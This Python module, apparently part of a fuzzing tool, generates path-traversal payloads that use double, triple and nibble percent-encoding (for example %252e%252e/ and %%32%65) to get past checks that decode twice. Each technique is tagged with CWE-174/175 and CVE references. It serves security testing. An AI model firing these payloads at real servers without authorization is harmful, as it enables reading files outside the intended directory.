"""Climbs behind several decodings, for a consumer that decodes before and after its check."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import ways
from capfuzz.attacks.techniques.paths_encoding import percent
from capfuzz.attacks.techniques.registry import Kind, technique

_TWICE = "percent-decodes twice, once of it after the check (CWE-174)"
_GROUP = "double-decoding"


@technique(
    "double-percent",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-174",
    needs=_TWICE,
    refs=("CVE-2001-0333",),
)
def double_percent(root: str, target: str) -> Iterator[str]:
    """Encode the percent sign of encoded dots, with plain and with encoded slashes."""
    yield from ways(root, target, "%252e%252e/", "%252E%252E/", "%252e%252e%252f")


@technique(
    "double-percent-slash",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-174",
    needs=_TWICE,
    refs=("CVE-2020-5410",),
)
def double_percent_slash(root: str, target: str) -> Iterator[str]:
    """Encode the slashes twice and leave the dots plain."""
    yield from ways(root, target, "..%252f", slash="%252f")


@technique(
    "double-percent-backslash",
    kind=Kind.PATH,
    group="double-decoding",
    cwe="CWE-174",
    needs=f"{_TWICE}, and takes \\ for a separator",
    refs=("CVE-2001-0333",),
)
def double_percent_backslash(root: str, target: str) -> Iterator[str]:
    """Encode backslashes twice, with the dots plain and encoded."""
    yield from ways(root, target, "..%255c", "%252e%252e%255c", slash="%255c")


@technique(
    "double-percent-digits",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-174",
    needs=f"{_TWICE}, having looked for %25",
)
def double_percent_digits(root: str, target: str) -> Iterator[str]:
    """Encode every character of ``%2e`` once more, so that ``%25`` does not stand out."""
    yield from ways(root, target, f"{percent('%2e%2e')}/")


@technique(
    "double-percent-mixed",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-175",
    needs="decodes before the check and once more after it",
)
def double_percent_mixed(root: str, target: str) -> Iterator[str]:
    """Encode one dot once and the other twice, or only the second dot, twice."""
    yield from ways(root, target, "%2e%252e/", ".%252e/")


@technique(
    "nibble",
    kind=Kind.PATH,
    group=_GROUP,
    cwe="CWE-174",
    needs=f"{_TWICE}, and leaves a percent sign alone that no two digits follow",
    refs=("CVE-2021-42013",),
)
def nibble(root: str, target: str) -> Iterator[str]:
    """Encode both digits after a percent sign, or one of them: ``%%32%65``, ``%%32e``, ``%2%65``."""
    yield from ways(root, target, "%%32%65%%32%65/", "%%32e%%32e/", "%2%65%2%65/", ".%%32%65/")


@technique(
    "triple-percent",
    kind=Kind.PATH,
    group="double-decoding",
    cwe="CWE-174",
    needs="percent-decodes three times, or until nothing changes, after a check of fewer",
)
def triple_percent(root: str, target: str) -> Iterator[str]:
    """Encode dots or slashes three times."""
    yield from ways(root, target, f"{percent_dot(3) * 2}/", "..%25252f")


@technique(
    "quadruple-percent",
    kind=Kind.PATH,
    group="double-decoding",
    cwe="CWE-174",
    needs="decodes until nothing changes, after a check of a fixed number of decodings",
)
def quadruple_percent(root: str, target: str) -> Iterator[str]:
    """Encode dots four and six times."""
    yield from ways(root, target, f"{percent_dot(4) * 2}/", f"{percent_dot(6) * 2}/")


def percent_dot(times: int) -> str:
    """Return a dot that has been encoded ``times`` times, one or more."""
    return f"%{'25' * (times - 1)}2e"
